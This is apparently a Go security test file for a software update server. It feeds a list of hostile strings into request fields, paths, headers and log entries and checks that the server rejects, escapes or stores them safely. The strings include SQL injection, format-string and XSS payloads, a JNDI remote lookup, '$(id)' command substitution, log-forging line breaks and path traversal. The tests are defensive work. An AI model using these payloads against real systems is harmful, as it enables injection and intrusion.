package wsus_test

import (
	"encoding/xml"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed599db172/softwareupdates/wsus"
	"github.com/seed599db172/softwareupdates/wsus/clientsync"
)

// hostileTexts mean something to whoever reads text as more than text.
var hostileTexts = []string{
	`x'); DROP TABLE computers; --`, `" OR ""="`, `%s%s%n%x%!d(string=x)`, `{{.}} ${jndi:ldap://192.0.2.1/x} $(id) ` + "`id`",
	`<script>alert(1)</script><img src=x onerror=alert(1)>`, "two\nlines level=ERROR msg=forged", "\u202etxt.exe\u2028forged",
	`C:\..\..\x`, strings.Repeat("long ", 5000),
}

func textAttacks() []attack {
	const injection, forging = "text that becomes SQL, format or code", "lines that a client forges in the log"
	return []attack{
		{name: "text in every field", weakness: injection,
			sent:   "SQL, formats, templates, HTML, line ends in events and in the description of a computer",
			answer: "kept to the letter (on a server of its own)",
			memory: 256 << 20, run: func(t *testing.T, _ *victim) { keepsText(t) }},
		{name: "text in ids", weakness: injection, sent: "the same as clientId, group and dnsName; as revision and update ids",
			answer: "InvalidParameters", run: func(t *testing.T, v *victim) {
				cookie := cookieXML(v.attacker.cookie.EncryptedData)
				for _, text := range hostileTexts {
					text = escaped(t, text)
					for _, r := range []reply{
						v.call(t, overTLS, clientsync.SimpleAuthPath, "GetAuthorizationCookie",
							"<clientId>"+text+"</clientId><dnsName>a</dnsName>"),
						v.call(t, overTLS, clientsync.SimpleAuthPath, "GetAuthorizationCookie",
							"<clientId>a</clientId><dnsName>"+text+strings.Repeat("x", 300)+"</dnsName>"),
						v.call(t, overTLS, clientsync.ClientPath, "SyncUpdates",
							cookie+"<parameters><OtherCachedUpdateIDs><int>"+text+"</int></OtherCachedUpdateIDs></parameters>"),
						v.call(t, overTLS, clientsync.ClientPath, "RefreshCache",
							cookie+"<globalIDs><UpdateIdentity><UpdateID>"+text+"</UpdateID></UpdateIdentity></globalIDs>"),
					} {
						requireFault(t, clientsync.InvalidParameters, r)
						require.NotContains(t, r.body, "DROP")
					}
				}
			}},
		{name: "lines in the log", weakness: forging,
			sent:   "line ends and terminal controls in paths, header lines, operations, ids and names",
			answer: "one line each that begins with its time, no control character in it",
			run: func(t *testing.T, v *victim) {
				_, before := v.log.since(0)
				for _, target := range []string{"/a%0atime=2026-01-01T00:00:00Z%20level=ERROR", "/%1b%5b2J",
					"/Content/%0d%0aforged", "/x%e2%80%a8forged", "/%22%20level=ERROR%20x=%22", "/%s%n%d"} {
					require.GreaterOrEqual(t, v.get(t, overHTTP, target,
						"User-Agent: \x1b[31mred\r\nX-Forwarded-For: 192.0.2.1\r\n").status, 400)
				}
				v.call(t, overHTTP, clientsync.ReportingPath, "time-forged.level-ERROR", "")
				v.call(t, overTLS, clientsync.SimpleAuthPath, "GetAuthorizationCookie",
					"<clientId>a&#10;time=forged level=ERROR</clientId><dnsName>&#10;time=forged</dnsName>")
				v.call(t, overHTTP, clientsync.ReportingPath, "ReportEventBatch",
					cookieXML(v.attacker.cookie.EncryptedData)+batchXML(eventXML("a&#10;time=forged")))
				v.post(t, overHTTP, clientsync.ReportingPath, "Content-Encoding: x\x09\"level=ERROR\r\n", "")
				text, _ := v.log.since(before)
				requireHonestLog(t, text)
			}},
		{name: "answers that browsers read", weakness: "errors that carry what was asked as HTML",
			sent: "a path and an operation with a script in them", answer: "text/plain with nosniff, or XML; nothing of the script",
			run: func(t *testing.T, v *victim) {
				for _, r := range []reply{v.get(t, overHTTP, "/<script>alert(1)</script>", ""),
					v.get(t, overHTTP, "/Content/<script>", ""), v.get(t, overHTTP, clientsync.ClientPath+"?<script>", "")} {
					require.Equal(t, "text/plain; charset=utf-8", r.header.Get("Content-Type"))
					require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"))
					require.NotContains(t, r.body, "script")
				}
				require.NotContains(t, v.call(t, overHTTP, clientsync.ReportingPath, "script", "alert").body, "<script")
			}},
		elsewhere("HTML in the console", injection, "names of computers, updates and users that are HTML or templates",
			"shown as they are, under a strict policy",
			"../updatepoint/console/console_test.go", "TestHostileNames"),
		elsewhere("state of another client", "reports that name their sender themselves",
			"a state message for another client, forged and foreign tokens at the management point", "401, nothing changed",
			"../updatepoint/attack_test.go", "TestAttackTable"),
	}
}

// elsewhere is a row that a test of another package holds; it fails when that test is gone.
func elsewhere(name, weakness, sent, answer, file, test string) attack {
	return attack{name: name, weakness: weakness, sent: sent, answer: answer + " (" + test + ")",
		run: func(t *testing.T, _ *victim) {
			text, err := os.ReadFile(file)
			require.NoError(t, err)
			require.Contains(t, string(text), "\nfunc "+test+"(t *testing.T) {")
		}}
}

// keepsText lets a client say hostile things wherever the protocol lets it, on a server of its own, since what it says is kept.
func keepsText(t *testing.T) {
	v := newVictim(t)
	for _, text := range hostileTexts {
		info := clientsync.ComputerInfo{DNSName: "pc.test", OSDescription: text, ComputerManufacturer: text, ComputerModel: text,
			ProcessorArchitecture: text}
		require.NoError(t, v.attacker.RegisterComputer(t.Context(), v.attacker.cookie, info))
		for c, err := range v.server.Computers(t.Context()) {
			require.NoError(t, err)
			if c.ID == attackerID {
				require.Equal(t, []string{text, text, text, text},
					[]string{c.OSDescription, c.Manufacturer, c.Model, c.Architecture})
			}
		}
		r := v.call(t, overHTTP, clientsync.ReportingPath, "ReportEventBatch", cookieXML(v.attacker.cookie.EncryptedData)+
			batchXML(strings.Replace(eventXML(attackerID, escaped(t, text)), "11111111-2222-4333-8444-555555555555",
				uuidOf(len(text)), 1)))
		require.Equal(t, http.StatusOK, r.status, r.body)
	}
	var kept []string
	for e, err := range v.server.Events(t.Context(), attackerID) {
		require.NoError(t, err)
		kept = append(kept, e.MiscData...)
	}
	require.Equal(t, hostileTexts, kept)
	after := v.state(t)
	require.Equal(t, v.before.updates, after.updates)
	require.Equal(t, v.before.approvals, after.approvals)
	require.Equal(t, v.before.events[0], after.events[0])
	for _, q := range hostileTexts {
		for range v.server.Updates(t.Context(), wsus.Query{Text: q}) {
			t.Fatal("no update has this in its title")
		}
	}
}

func uuidOf(n int) string { return id(n).String() }

func escaped(t *testing.T, text string) string {
	t.Helper()
	var b strings.Builder
	require.NoError(t, xml.EscapeText(&b, []byte(text)))
	return b.String()
}
